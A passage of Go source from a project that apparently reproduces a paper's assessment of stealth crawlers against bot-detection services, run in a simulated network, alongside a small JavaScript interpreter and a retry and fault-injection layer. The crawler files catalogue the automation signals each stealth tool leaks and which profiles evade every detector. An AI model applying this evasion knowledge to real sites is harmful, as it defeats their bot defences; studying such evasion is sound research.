			return ObjectValue(o), nil
		}), nil, true
	case "forEach":
		return NewHostFunc(func(interp *Interp, _ Value, args []Value) (Value, error) {
			if len(args) == 0 {
				return Undefined, nil
			}
			for i, e := range o.Elems {
				if _, err := interp.call(args[0], Undefined, []Value{e, Number(float64(i))}, 0); err != nil {
					return Undefined, err
				}
			}
			return Undefined, nil
		}), nil, true
	case "map":
		return NewHostFunc(func(interp *Interp, _ Value, args []Value) (Value, error) {
			out := NewArray()
			if len(args) == 0 {
				return ObjectValue(out), nil
			}
			for i, e := range o.Elems {
				v, err := interp.call(args[0], Undefined, []Value{e, Number(float64(i))}, 0)
				if err != nil {
					return Undefined, err
				}
				out.Elems = append(out.Elems, v)
			}
			return ObjectValue(out), nil
		}), nil, true
	case "filter":
		return NewHostFunc(func(interp *Interp, _ Value, args []Value) (Value, error) {
			out := NewArray()
			if len(args) == 0 {
				return ObjectValue(out), nil
			}
			for i, e := range o.Elems {
				v, err := interp.call(args[0], Undefined, []Value{e, Number(float64(i))}, 0)
				if err != nil {
					return Undefined, err
				}
				if v.Truthy() {
					out.Elems = append(out.Elems, e)
				}
			}
			return ObjectValue(out), nil
		}), nil, true
	default:
		return Undefined, nil, false
	}
}
