package minijs

import (
	"fmt"
	"math"
	"sort"
	"strconv"
	"strings"
)

// Kind discriminates runtime values.
type Kind int

// Value kinds.
const (
	KindUndefined Kind = iota + 1
	KindNull
	KindBool
	KindNumber
	KindString
	KindObject
)

// Value is a runtime JavaScript value. The zero Value is undefined.
type Value struct {
	kind Kind
	b    bool
	num  float64
	str  string
	obj  *Object
}

// Constructors for each value kind.
var (
	Undefined = Value{kind: KindUndefined}
	Null      = Value{kind: KindNull}
	True      = Value{kind: KindBool, b: true}
	False     = Value{kind: KindBool, b: false}
)

// Bool returns a boolean value.
func Bool(b bool) Value { return Value{kind: KindBool, b: b} }

// Number returns a numeric value.
func Number(n float64) Value { return Value{kind: KindNumber, num: n} }

// String returns a string value.
func String(s string) Value { return Value{kind: KindString, str: s} }

// ObjectValue wraps an object.
func ObjectValue(o *Object) Value { return Value{kind: KindObject, obj: o} }

// Kind returns the value's kind.
func (v Value) Kind() Kind { return v.kind }

// IsUndefined reports whether the value is undefined.
func (v Value) IsUndefined() bool { return v.kind == KindUndefined || v.kind == 0 }

// IsNullish reports whether the value is null or undefined.
func (v Value) IsNullish() bool { return v.IsUndefined() || v.kind == KindNull }

// Object returns the wrapped object or nil.
func (v Value) Object() *Object {
	if v.kind == KindObject {
		return v.obj
	}
	return nil
}

// HostFunc is a Go function callable from scripts. this is the receiver for
// method calls (undefined otherwise).
type HostFunc func(interp *Interp, this Value, args []Value) (Value, error)

// ObjectClass tags special object behaviors.
type ObjectClass int

// Object classes.
const (
	ClassPlain ObjectClass = iota + 1
	ClassArray
	ClassFunction
	ClassError
)

// Object is a mutable property bag, also used for arrays and functions.
type Object struct {
	Class ObjectClass
	// Props holds named properties. Array elements live in Elems.
	Props map[string]Value
	// Elems holds array elements when Class == ClassArray.
	Elems []Value
	// fn is the compiled function for script functions.
	fn *funcLit
	// env is the closure environment for script functions.
	env *environment
	// host is the Go implementation for host functions.
	host HostFunc
	// boundThis is the receiver captured by arrow functions.
	boundThis *Value
	// HostData lets embedders attach arbitrary state (e.g. an XHR handle).
	HostData any
}

// NewObject returns an empty plain object.
func NewObject() *Object {
	return &Object{Class: ClassPlain, Props: map[string]Value{}}
}

// NewArray returns an array object with the given elements.
func NewArray(elems ...Value) *Object {
	return &Object{Class: ClassArray, Props: map[string]Value{}, Elems: elems}
}

// NewHostFunc wraps a Go function as a callable object value.
func NewHostFunc(fn HostFunc) Value {
	return ObjectValue(&Object{Class: ClassFunction, Props: map[string]Value{}, host: fn})
}

// Get reads a named property.
func (o *Object) Get(name string) Value {
	if o.Class == ClassArray && name == "length" {
		return Number(float64(len(o.Elems)))
	}
	if v, ok := o.Props[name]; ok {
		return v
	}
	return Undefined
}

// Set writes a named property.
func (o *Object) Set(name string, v Value) {
	if o.Props == nil {
		o.Props = map[string]Value{}
	}
	o.Props[name] = v
}

// Has reports whether a named property exists.
func (o *Object) Has(name string) bool {
	if o.Class == ClassArray && name == "length" {
		return true
	}
	_, ok := o.Props[name]
	return ok
}

// Keys returns the object's own property names, sorted for determinism.
func (o *Object) Keys() []string {
	out := make([]string, 0, len(o.Props))
	for k := range o.Props {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

// Callable reports whether the object can be invoked.
func (o *Object) Callable() bool {
	return o.Class == ClassFunction && (o.fn != nil || o.host != nil)
}

// Truthy implements JavaScript boolean coercion.
func (v Value) Truthy() bool {
	switch v.kind {
	case KindBool:
		return v.b
	case KindNumber:
		return v.num != 0 && !math.IsNaN(v.num)
	case KindString:
		return v.str != ""
	case KindObject:
		return v.obj != nil
	default:
		return false
	}
}

// ToNumber implements JavaScript numeric coercion.
func (v Value) ToNumber() float64 {
	switch v.kind {
	case KindNumber:
		return v.num
	case KindBool:
		if v.b {
			return 1
		}
		return 0
	case KindString:
		s := strings.TrimSpace(v.str)
		if s == "" {
			return 0
		}
		n, err := strconv.ParseFloat(s, 64)
		if err != nil {
			return math.NaN()
		}
		return n
	case KindNull:
		return 0
	case KindObject:
		if v.obj != nil && v.obj.Class == ClassArray {
			switch len(v.obj.Elems) {
			case 0:
				return 0
			case 1:
				return v.obj.Elems[0].ToNumber()
			}
		}
		return math.NaN()
	default:
		return math.NaN()
	}
}

// ToString implements JavaScript string coercion.
func (v Value) ToString() string {
	switch v.kind {
	case KindString:
		return v.str
	case KindNumber:
		return trimFloat(v.num)
	case KindBool:
		if v.b {
			return "true"
		}
		return "false"
	case KindNull:
		return "null"
	case KindObject:
		switch v.obj.Class {
		case ClassArray:
			parts := make([]string, len(v.obj.Elems))
			for i, e := range v.obj.Elems {
				if !e.IsNullish() {
					parts[i] = e.ToString()
				}
			}
			return strings.Join(parts, ",")
		case ClassFunction:
			return "function () { [native or script code] }"
		case ClassError:
			return v.obj.Get("name").ToString() + ": " + v.obj.Get("message").ToString()
		default:
			return "[object Object]"
		}
	default:
		return "undefined"
	}
}

// TypeOf implements the typeof operator.
func (v Value) TypeOf() string {
	switch v.kind {
	case KindBool:
		return "boolean"
	case KindNumber:
		return "number"
	case KindString:
		return "string"
	case KindNull:
		return "object"
	case KindObject:
		if v.obj.Callable() {
			return "function"
		}
		return "object"
	default:
		return "undefined"
	}
}

// StrictEquals implements ===.
func StrictEquals(a, b Value) bool {
	ka, kb := a.kind, b.kind
	if ka == 0 {
		ka = KindUndefined
	}
	if kb == 0 {
		kb = KindUndefined
	}
	if ka != kb {
		return false
	}
	switch ka {
	case KindUndefined, KindNull:
		return true
	case KindBool:
		return a.b == b.b
	case KindNumber:
		return a.num == b.num
	case KindString:
		return a.str == b.str
	case KindObject:
		return a.obj == b.obj
	default:
		return false
	}
}

// LooseEquals implements == with the common coercion rules.
func LooseEquals(a, b Value) bool {
	if a.IsNullish() && b.IsNullish() {
		return true
	}
	if a.IsNullish() != b.IsNullish() {
		return false
	}
	ka, kb := a.kind, b.kind
	if ka == kb {
		return StrictEquals(a, b)
	}
	// Number/string/bool cross-comparisons go through numbers.
	if ka == KindObject || kb == KindObject {
		// Compare via string for array-to-primitive (sufficient subset).
		return a.ToString() == b.ToString()
	}
	return a.ToNumber() == b.ToNumber()
}

// trimFloat renders a float like JavaScript does for common cases.
func trimFloat(f float64) string {
	if math.IsNaN(f) {
		return "NaN"
	}
	if math.IsInf(f, 1) {
		return "Infinity"
	}
	if math.IsInf(f, -1) {
		return "-Infinity"
	}
	if f == math.Trunc(f) && math.Abs(f) < 1e15 {
		return strconv.FormatInt(int64(f), 10)
	}
	return strconv.FormatFloat(f, 'g', -1, 64)
}

// Inspect renders a value for debugging output.
func Inspect(v Value) string {
	switch v.kind {
	case KindString:
		return fmt.Sprintf("%q", v.str)
	case KindObject:
		if v.obj.Class == ClassArray {
			parts := make([]string, len(v.obj.Elems))
			for i, e := range v.obj.Elems {
				parts[i] = Inspect(e)
			}
			return "[" + strings.Join(parts, ", ") + "]"
		}
		if v.obj.Class == ClassPlain {
			var parts []string
			for _, k := range v.obj.Keys() {
				parts = append(parts, k+": "+Inspect(v.obj.Props[k]))
			}
			return "{" + strings.Join(parts, ", ") + "}"
		}
		return v.ToString()
	default:
		return v.ToString()
	}
}
