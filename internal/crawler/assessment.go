package crawler

import (
	"context"
	"fmt"
	"strings"
	"time"

	"crawlerbox/internal/botdetect"
	"crawlerbox/internal/webnet"
)

// DetectorName identifies one Table I row.
type DetectorName string

// The three detectors of Table I.
const (
	DetectorBotD      DetectorName = "BotD"
	DetectorTurnstile DetectorName = "Turnstile"
	DetectorAnonWAF   DetectorName = "AnonWAF"
)

// AllDetectors lists Table I rows in order.
var AllDetectors = []DetectorName{DetectorBotD, DetectorTurnstile, DetectorAnonWAF}

// CellResult is one cell of the assessment matrix.
type CellResult struct {
	Crawler  Kind
	Detector DetectorName
	// Passed is true when the crawler evaded detection.
	Passed bool
	// Reasons lists why the detector flagged the crawler, when it did.
	Reasons []string
	// HeadlessOnlyFail marks the BotD footnote case: the crawler passes
	// non-headless but fails headless.
	HeadlessOnlyFail bool
}

// Assessment is the full Table I matrix.
type Assessment struct {
	Cells map[Kind]map[DetectorName]CellResult
}

// Cell returns one matrix cell.
func (a *Assessment) Cell(k Kind, d DetectorName) CellResult {
	return a.Cells[k][d]
}

// PassesAll reports whether a crawler evaded every detector.
func (a *Assessment) PassesAll(k Kind) bool {
	for _, d := range AllDetectors {
		if !a.Cells[k][d].Passed {
			return false
		}
	}
	return true
}

// RunAssessment reproduces the Table I experiment: every crawler in the
// fleet visits a BotD-instrumented page, a Turnstile-gated site, and an
// AnonWAF-protected origin, all from the same mobile egress class (the
// paper's 4G modem), and each service's logs supply the verdicts.
func RunAssessment(ctx context.Context) (*Assessment, error) {
	out := &Assessment{Cells: map[Kind]map[DetectorName]CellResult{}}
	seed := int64(1)
	for _, kind := range AllKinds {
		out.Cells[kind] = map[DetectorName]CellResult{}
		for _, det := range AllDetectors {
			// Fresh world per cell: verdict logs and cookie jars must not
			// leak between runs.
			cell, err := runCell(ctx, kind, det, seed, defaultHeadless(kind))
			if err != nil {
				return nil, fmt.Errorf("assessing %s vs %s: %w", kind, det, err)
			}
			// The BotD footnote: the paper marks undetected_chromedriver
			// as passing only in non-headless mode; probe that variant.
			if det == DetectorBotD && cell.Passed && kind == UndetectedChromedriver {
				headlessCell, err := runCell(ctx, kind, det, seed+1000, true)
				if err != nil {
					return nil, fmt.Errorf("assessing %s vs %s (headless): %w", kind, det, err)
				}
				cell.HeadlessOnlyFail = !headlessCell.Passed
			}
			out.Cells[kind][det] = cell
			seed++
		}
	}
	return out, nil
}

// RunAssessmentCell runs a single crawler against a single detector in a
// fresh isolated world — the unit the ablation benchmarks time.
func RunAssessmentCell(ctx context.Context, kind Kind, det DetectorName, seed int64) (CellResult, error) {
	return runCell(ctx, kind, det, seed, defaultHeadless(kind))
}

// runCell runs one crawler against one detector in an isolated world.
func runCell(ctx context.Context, kind Kind, det DetectorName, seed int64, headless bool) (CellResult, error) {
	net := webnet.NewInternet(webnet.NewClock(time.Date(2024, 1, 15, 9, 0, 0, 0, time.UTC)))
	c := NewHeadless(kind, net, webnet.IPMobile, seed, headless)
	cell := CellResult{Crawler: kind, Detector: det}
	switch det {
	case DetectorBotD:
		botd := botdetect.NewBotD(net, "botd.test")
		serveStatic(net, "botd-page.test",
			`<html><body><script src="https://botd.test/botd.js"></script></body></html>`)
		_, _ = c.Visit(ctx, "https://botd-page.test/")
		v := botd.VerdictFor(c.Browser.ClientIP)
		cell.Passed = !v.Bot
		cell.Reasons = v.Reasons
	case DetectorTurnstile:
		ts := botdetect.NewTurnstile(net, "turnstile.test")
		gateIP := net.AllocateIP(webnet.IPDatacenter)
		net.AddDNS("gated.test", gateIP)
		net.Serve("gated.test", func(req *webnet.Request) *webnet.Response {
			if req.Path == "/content" && ts.ValidToken(queryValue(req.RawQuery, "tok")) {
				return &webnet.Response{Status: 200, Body: []byte("<html><body>cleared</body></html>")}
			}
			return &webnet.Response{Status: 200, Body: []byte(ts.GateHTML("/content", "tok"))}
		})
		_, _ = c.Visit(ctx, "https://gated.test/")
		v := ts.VerdictFor(c.Browser.ClientIP)
		cell.Passed = !v.Bot
		cell.Reasons = v.Reasons
	case DetectorAnonWAF:
		waf := botdetect.NewAnonWAF("waf-origin.test")
		originIP := net.AllocateIP(webnet.IPDatacenter)
		net.AddDNS("waf-origin.test", originIP)
		net.Serve("waf-origin.test", waf.Wrap(func(*webnet.Request) *webnet.Response {
			return &webnet.Response{Status: 200, Body: []byte("<html><body>origin</body></html>")}
		}))
		_, _ = c.Visit(ctx, "https://waf-origin.test/")
		v := waf.VerdictFor(c.Browser.ClientIP)
		cell.Passed = !v.Bot
		cell.Reasons = v.Reasons
	default:
		return cell, fmt.Errorf("unknown detector %q", det)
	}
	return cell, nil
}

func serveStatic(net *webnet.Internet, host, html string) {
	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS(host, ip)
	net.Serve(host, func(*webnet.Request) *webnet.Response {
		return &webnet.Response{Status: 200, Body: []byte(html),
			Headers: map[string]string{"Content-Type": "text/html"}}
	})
}

func queryValue(raw, key string) string {
	for _, kv := range strings.Split(raw, "&") {
		parts := strings.SplitN(kv, "=", 2)
		if len(parts) == 2 && parts[0] == key {
			return parts[1]
		}
	}
	return ""
}
