package crawler

import (
	"context"
	"testing"
)

// _paperTable1 is the expected Table I matrix from the paper; true = pass.
var _paperTable1 = map[Kind]map[DetectorName]bool{
	Kangooroo:              {DetectorBotD: false, DetectorTurnstile: false, DetectorAnonWAF: false},
	Lacus:                  {DetectorBotD: true, DetectorTurnstile: false, DetectorAnonWAF: false},
	PuppeteerStealth:       {DetectorBotD: true, DetectorTurnstile: false, DetectorAnonWAF: false},
	SeleniumStealth:        {DetectorBotD: false, DetectorTurnstile: false, DetectorAnonWAF: false},
	UndetectedChromedriver: {DetectorBotD: true, DetectorTurnstile: false, DetectorAnonWAF: true},
	Nodriver:               {DetectorBotD: true, DetectorTurnstile: true, DetectorAnonWAF: true},
	SeleniumDriverless:     {DetectorBotD: true, DetectorTurnstile: true, DetectorAnonWAF: true},
	NotABot:                {DetectorBotD: true, DetectorTurnstile: true, DetectorAnonWAF: true},
}

func TestTable1MatrixMatchesPaper(t *testing.T) {
	a, err := RunAssessment(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	for kind, row := range _paperTable1 {
		for det, want := range row {
			cell := a.Cell(kind, det)
			if cell.Passed != want {
				t.Errorf("%s vs %s: passed=%v (reasons %v), paper says %v",
					kind, det, cell.Passed, cell.Reasons, want)
			}
		}
	}
}

func TestTable1UndetectedChromedriverHeadlessFootnote(t *testing.T) {
	// The Table I footnote: undetected_chromedriver passes BotD only when
	// used in non-headless mode.
	a, err := RunAssessment(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	cell := a.Cell(UndetectedChromedriver, DetectorBotD)
	if !cell.Passed {
		t.Fatal("non-headless UDC should pass BotD")
	}
	if !cell.HeadlessOnlyFail {
		t.Error("headless UDC should fail BotD (the * footnote)")
	}
	// NotABot has no such caveat... and is always non-headless by design.
	if a.Cell(NotABot, DetectorBotD).HeadlessOnlyFail {
		// NotABot run headless would fail too, but the tool is defined
		// non-headless; the footnote only applies to UDC in the paper
		// because the others' verdicts don't change. Verify the three
		// all-pass stacks pass everything.
		t.Log("informational: NotABot headless variant differs")
	}
	for _, k := range []Kind{Nodriver, SeleniumDriverless, NotABot} {
		if !a.PassesAll(k) {
			t.Errorf("%s should pass all detectors", k)
		}
	}
}

func TestOnlyThreeCrawlersPassEverything(t *testing.T) {
	a, err := RunAssessment(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	var winners []Kind
	for _, k := range AllKinds {
		if a.PassesAll(k) {
			winners = append(winners, k)
		}
	}
	if len(winners) != 3 {
		t.Errorf("winners = %v, paper reports exactly 3 (Nodriver, Selenium-Driverless, NotABot)", winners)
	}
}

func TestProfilesDiffer(t *testing.T) {
	// The detectable crawlers must each leak a distinct surface; the three
	// all-pass stacks (Nodriver, Selenium-Driverless, NotABot) are
	// deliberately indistinguishable from a human browser — and therefore
	// from each other.
	seen := map[string][]Kind{}
	for _, k := range AllKinds {
		p := Profile(k, defaultHeadless(k))
		key := p.UserAgent + "|" + p.TLSFingerprint + "|" + p.GPURenderer +
			"|" + boolStr(p.WebdriverFlag) + boolStr(p.CDPArtifacts) +
			boolStr(p.ChromedriverArtifacts) + boolStr(p.InterceptionCacheQuirk) +
			boolStr(p.MouseMovement)
		seen[key] = append(seen[key], k)
	}
	if len(seen) < 6 {
		t.Errorf("only %d distinct surfaces across the fleet, want >= 6", len(seen))
	}
	clean := Profile(NotABot, false)
	cleanKey := clean.UserAgent + "|" + clean.TLSFingerprint + "|" + clean.GPURenderer +
		"|" + boolStr(clean.WebdriverFlag) + boolStr(clean.CDPArtifacts) +
		boolStr(clean.ChromedriverArtifacts) + boolStr(clean.InterceptionCacheQuirk) +
		boolStr(clean.MouseMovement)
	if got := len(seen[cleanKey]); got != 3 {
		t.Errorf("clean surface shared by %d crawlers (%v), want the 3 all-pass stacks",
			got, seen[cleanKey])
	}
}

func TestNotABotProfileMatchesHuman(t *testing.T) {
	nb := Profile(NotABot, false)
	if nb.WebdriverFlag || nb.Headless || nb.CDPArtifacts || nb.ChromedriverArtifacts ||
		nb.InterceptionCacheQuirk || !nb.TrustedEvents || !nb.MouseMovement ||
		!nb.SendAcceptLanguage {
		t.Errorf("NotABot profile leaks automation signals: %+v", nb)
	}
}

func TestKindStrings(t *testing.T) {
	for _, k := range AllKinds {
		if k.String() == "unknown" {
			t.Errorf("kind %d has no name", k)
		}
	}
	if Kind(99).String() != "unknown" {
		t.Error("invalid kind should be unknown")
	}
}

func boolStr(b bool) string {
	if b {
		return "1"
	}
	return "0"
}
