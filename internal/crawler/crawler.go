// Package crawler defines the crawler fleet of the paper's Table I: eight
// crawling stacks, each modeled as the fingerprint surface its real-world
// counterpart exposes, plus the assessment harness that challenges every
// crawler against every bot-detection service.
//
// Verdicts are emergent: the profiles encode what each tool's stack
// genuinely leaks (ChromeDriver binaries leave renamed cdc_ slots, headless
// Chrome renders WebGL with SwiftShader, Puppeteer request interception
// forces cache-bypass headers, Java HTTP stacks have non-browser TLS
// fingerprints), and the detectors probe for those leaks.
package crawler

import (
	"context"
	"strings"

	"crawlerbox/internal/browser"
	"crawlerbox/internal/obs"
	"crawlerbox/internal/webnet"
)

// Kind identifies one of the assessed crawler stacks.
type Kind int

// The eight crawlers of Table I.
const (
	Kangooroo Kind = iota + 1
	Lacus
	PuppeteerStealth
	SeleniumStealth
	UndetectedChromedriver
	Nodriver
	SeleniumDriverless
	NotABot
)

// AllKinds lists the fleet in Table I column order.
var AllKinds = []Kind{
	Kangooroo, Lacus, PuppeteerStealth, SeleniumStealth,
	UndetectedChromedriver, Nodriver, SeleniumDriverless, NotABot,
}

// String names the crawler.
func (k Kind) String() string {
	switch k {
	case Kangooroo:
		return "Kangooroo"
	case Lacus:
		return "Lacus"
	case PuppeteerStealth:
		return "Puppeteer+stealth"
	case SeleniumStealth:
		return "Selenium+stealth"
	case UndetectedChromedriver:
		return "undetected_chromedriver"
	case Nodriver:
		return "Nodriver"
	case SeleniumDriverless:
		return "Selenium-Driverless"
	case NotABot:
		return "NotABot"
	default:
		return "unknown"
	}
}

const _swiftShader = "Google SwiftShader"

// Profile returns the fingerprint surface of a crawler stack. headless
// selects the headless variant where the tool supports both (the Table I
// footnote: undetected_chromedriver passes BotD only when non-headless).
func Profile(kind Kind, headless bool) browser.Profile {
	p := browser.HumanChrome()
	p.Name = kind.String()
	// Crawlers don't emulate human input unless noted.
	p.MouseMovement = false
	p.TrustedEvents = false
	switch kind {
	case Kangooroo:
		// Java utility driving headless Chrome through a WebDriver stack;
		// URL prefetching goes through the JVM's HTTP client.
		applyHeadless(&p, true)
		p.WebdriverFlag = true
		p.ChromedriverArtifacts = true
		p.CDPArtifacts = true
		p.TLSFingerprint = "771,4865-4866,java-http-client"
		p.SendAcceptLanguage = false
	case Lacus:
		// Playwright capture system: webdriver patched away and a desktop
		// UA, but headless rendering and HAR-style request interception.
		applyHeadless(&p, true)
		p.UserAgent = browser.HumanChrome().UserAgent
		p.InterceptionCacheQuirk = true
	case PuppeteerStealth:
		// puppeteer-extra-plugin-stealth: masks webdriver, UA, plugins and
		// the chrome object — but cannot conjure a GPU in headless mode.
		applyHeadless(&p, true)
		p.UserAgent = browser.HumanChrome().UserAgent
		p.PluginCount = 5
		p.PluginNames = browser.RealChromePlugins
		p.ChromeObject = true
	case SeleniumStealth:
		// selenium-stealth: patches navigator.webdriver but leaves the
		// ChromeDriver cdc_ artifacts in place.
		applyHeadless(&p, true)
		p.UserAgent = browser.HumanChrome().UserAgent
		p.CDPArtifacts = true
		p.ChromedriverArtifacts = true
	case UndetectedChromedriver:
		// Patched ChromeDriver launching a real Chrome: clean JS surface
		// (cdc_ renamed) but the driver binary is still attached.
		applyHeadless(&p, headless)
		p.ChromedriverArtifacts = true
	case Nodriver, SeleniumDriverless:
		// Pure-CDP stacks on a real Chrome: no driver binary, no
		// automation flag; they also synthesize trusted input.
		applyHeadless(&p, headless)
		p.MouseMovement = true
		p.TrustedEvents = true
	case NotABot:
		return browser.NotABot()
	}
	return p
}

// applyHeadless switches the correlated headless signals together.
func applyHeadless(p *browser.Profile, headless bool) {
	p.Headless = headless
	if headless {
		p.UserAgent = strings.Replace(p.UserAgent, "Chrome/", "HeadlessChrome/", 1)
		p.GPURenderer = _swiftShader
		p.ChromeObject = false
		p.PluginCount = 0
		p.PluginNames = nil
		p.SendAcceptLanguage = false
	}
}

// Crawler is one fleet member bound to a network.
type Crawler struct {
	Kind    Kind
	Browser *browser.Browser
}

// New returns a crawler of the given kind attached to the network with its
// own client IP of the given class.
func New(kind Kind, net *webnet.Internet, ipClass webnet.IPClass, seed int64) *Crawler {
	return NewHeadless(kind, net, ipClass, seed, defaultHeadless(kind))
}

// NewHeadless selects the headless variant explicitly.
func NewHeadless(kind Kind, net *webnet.Internet, ipClass webnet.IPClass, seed int64, headless bool) *Crawler {
	ip := net.AllocateIP(ipClass)
	return &Crawler{
		Kind:    kind,
		Browser: browser.New(net, Profile(kind, headless), ip, seed),
	}
}

// defaultHeadless reflects each tool's usual deployment.
func defaultHeadless(kind Kind) bool {
	switch kind {
	case UndetectedChromedriver, Nodriver, SeleniumDriverless, NotABot:
		return false
	default:
		return true
	}
}

// Instrument binds a trace buffer to the crawler's browser so its visits
// and requests are recorded as spans. A nil trace turns tracing off.
// Returns the crawler for chaining.
func (c *Crawler) Instrument(tr *obs.Trace) *Crawler {
	c.Browser.Trace = tr
	return c
}

// Visit crawls a URL under the caller's context.
func (c *Crawler) Visit(ctx context.Context, url string) (*browser.Result, error) {
	return c.Browser.Visit(ctx, url)
}
