// Package resilience is the deterministic fault-and-recovery layer of the
// CrawlerBox reproduction (DESIGN.md §11). It provides the four pieces the
// pipeline weaves through webnet → browser → crawlerbox:
//
//   - a seeded, per-host schedule of transient faults (NXDOMAIN flaps,
//     connection resets, slow-start timeouts, 5xx bursts) that
//     webnet.Internet injects into the request path,
//   - retry with exponential backoff and deterministic jitter, charged to
//     the per-analysis virtual clock (never time.Sleep), under a per-stage
//     backoff budget,
//   - a per-host circuit breaker (closed / open / half-open) with a
//     virtual-clock cool-down, and
//   - the error taxonomy (ErrCircuitOpen, ExhaustedError) classify uses to
//     downgrade a retry-exhausted message to OutcomePartial instead of
//     aborting the analysis.
//
// All state lives in a per-analysis Session keyed by the message seed:
// fault draws, jitter draws, burst positions, and breaker states depend
// only on (seed, call ordinal) within one analysis, never on what other
// analyses are doing — which is what keeps corpus runs byte-identical for
// any worker count. A corpus-global breaker would be more faithful to a
// long-lived production crawler but would make one message's outcome depend
// on scheduling order; the per-analysis scope is the deterministic choice.
//
// Like the obs package, resilience is decoupled from webnet through a small
// Clock interface (satisfied by *webnet.Clock), so webnet can depend on it
// without a cycle. Every method is nil-safe on a nil *Session: the layer
// disarmed costs one nil check per site.
package resilience

import (
	"errors"
	"fmt"
	"sync"
	"time"

	"crawlerbox/internal/obs"
)

// Clock is the virtual time source the breaker cool-down reads.
// *webnet.Clock satisfies it.
type Clock interface {
	Now() time.Time
}

// Errors surfaced by the resilience layer.
var (
	// ErrCircuitOpen marks a request short-circuited by an open per-host
	// circuit breaker: the host failed repeatedly and the cool-down has not
	// elapsed on the analysis's virtual clock.
	ErrCircuitOpen = errors.New("resilience: circuit open")
	// ErrExhausted is the errors.Is target for ExhaustedError.
	ErrExhausted = errors.New("resilience: retries exhausted")
)

// ExhaustedError wraps the last transient error after the retry budget ran
// out. It unwraps to the underlying webnet error, so classifiers that probe
// for ErrNXDomain/ErrUnreachable/ErrTimeout/ErrReset keep working, and it
// matches errors.Is(err, ErrExhausted) so degradation can be told apart
// from a plain first-attempt failure.
type ExhaustedError struct {
	// Attempts is the number of round trips performed (initial + retries).
	Attempts int
	// Err is the final attempt's error.
	Err error
}

// Error implements error.
func (e *ExhaustedError) Error() string {
	return fmt.Sprintf("resilience: %d attempts exhausted: %v", e.Attempts, e.Err)
}

// Unwrap exposes the final attempt's error.
func (e *ExhaustedError) Unwrap() error { return e.Err }

// Is matches the ErrExhausted sentinel.
func (e *ExhaustedError) Is(target error) bool { return target == ErrExhausted }

// FaultKind enumerates the injectable transient faults.
type FaultKind int

// Fault kinds, in draw-weight order.
const (
	// FaultNone: the request proceeds normally.
	FaultNone FaultKind = iota
	// FaultNXDomain: the resolver transiently answers NXDOMAIN (a DNS flap)
	// even though the zone still holds the record.
	FaultNXDomain
	// FaultReset: the TCP connection is reset after connect.
	FaultReset
	// FaultSlowStart: the server accepts the connection, then stalls past
	// the client deadline (extra virtual latency, then a timeout).
	FaultSlowStart
	// Fault5xx: an overloaded origin answers 503.
	Fault5xx
)

// String names the kind (metric label / span attribute vocabulary).
func (k FaultKind) String() string {
	switch k {
	case FaultNone:
		return "none"
	case FaultNXDomain:
		return "nxdomain-flap"
	case FaultReset:
		return "reset"
	case FaultSlowStart:
		return "slow-start"
	case Fault5xx:
		return "5xx"
	default:
		return "unknown"
	}
}

// Fault is one injected fault instance.
type Fault struct {
	Kind FaultKind
	// Status is the response status served for Fault5xx.
	Status int
	// Stall is the extra virtual latency charged before a FaultSlowStart
	// surfaces as a timeout.
	Stall time.Duration
}

// Policy is the immutable configuration of the resilience layer. A nil
// *Policy on the pipeline disarms the layer entirely (no injection, no
// retries, no breaker) and reproduces the pre-resilience behavior byte for
// byte.
type Policy struct {
	// FaultRate is the probability in [0,1] that a request to a currently
	// healthy host starts a fault burst. Zero injects nothing (retries and
	// the breaker still act on real failures such as taken-down hosts).
	FaultRate float64
	// MaxBurst is the maximum burst length: once a host draws a fault, the
	// same fault repeats for a drawn 1..MaxBurst consecutive requests to
	// that host. Bursts are what make the schedule realistic — NXDOMAIN
	// flaps and 5xx storms persist across immediate retries — and are the
	// reason retry exhaustion happens at all at low fault rates.
	MaxBurst int
	// RetryMax is the number of retries after the initial attempt.
	RetryMax int
	// BackoffBase is the first retry's backoff step; step k is
	// BackoffBase<<k, capped at BackoffMax, before jitter.
	BackoffBase time.Duration
	// BackoffMax caps a single backoff step.
	BackoffMax time.Duration
	// JitterFrac in [0,1] is the fraction of each step randomized: the wait
	// is drawn uniformly from [step-step*JitterFrac/2, step+step*JitterFrac/2].
	JitterFrac float64
	// StageBudget caps the cumulative virtual backoff charged per pipeline
	// stage; once spent, further retries are refused until the next stage.
	StageBudget time.Duration
	// BreakerThreshold is the consecutive per-host failure count that opens
	// the circuit.
	BreakerThreshold int
	// BreakerCooldown is how long (virtual time) an open circuit waits
	// before admitting a half-open probe.
	BreakerCooldown time.Duration
	// SlowStall is the extra virtual latency of a FaultSlowStart.
	SlowStall time.Duration
}

// DefaultPolicy returns the tuned defaults used by the CLIs: 10% fault
// rate, bursts up to 6 requests, 3 retries with 250ms..5s exponential
// backoff and 50% jitter, a 10s per-stage budget, and a breaker that opens
// after 4 consecutive failures for a 5-minute virtual cool-down.
func DefaultPolicy() *Policy {
	return &Policy{
		FaultRate:        0.1,
		MaxBurst:         6,
		RetryMax:         3,
		BackoffBase:      250 * time.Millisecond,
		BackoffMax:       5 * time.Second,
		JitterFrac:       0.5,
		StageBudget:      10 * time.Second,
		BreakerThreshold: 4,
		BreakerCooldown:  5 * time.Minute,
		SlowStall:        2 * time.Second,
	}
}

// Breaker states.
const (
	breakerClosed = iota
	breakerOpen
	breakerHalfOpen
)

// burst is the remaining tail of a drawn fault burst for one host.
type burst struct {
	fault Fault
	left  int
}

// breaker is one host's circuit-breaker state.
type breaker struct {
	state    int
	fails    int       // consecutive failures while closed
	openedAt time.Time // virtual time the circuit last opened
}

// Session is the per-analysis resilience state: the seeded fault/jitter
// stream, per-host burst positions, per-host breakers, and the current
// stage's backoff budget. One Session serves one message analysis; the
// browser and webnet layers of that analysis share it. Methods are
// locked — analyses are single-goroutine, but nested fetches (frames,
// subresources) re-enter through the same browser — and every method is a
// no-op (or permissive) on a nil receiver.
type Session struct {
	policy  *Policy
	clock   Clock
	metrics *obs.Registry

	mu       sync.Mutex
	seq      uint64              // guarded by mu
	bursts   map[string]*burst   // guarded by mu
	breakers map[string]*breaker // guarded by mu
	spent    time.Duration       // guarded by mu
}

// NewSession builds a session for one analysis. seed is the message's
// deterministic seed (MessageSpec.ID); clock is the analysis's virtual
// clock fork; metrics may be nil (counters are then dropped).
func NewSession(p *Policy, seed int64, clock Clock, metrics *obs.Registry) *Session {
	return &Session{
		policy:   p,
		clock:    clock,
		metrics:  metrics,
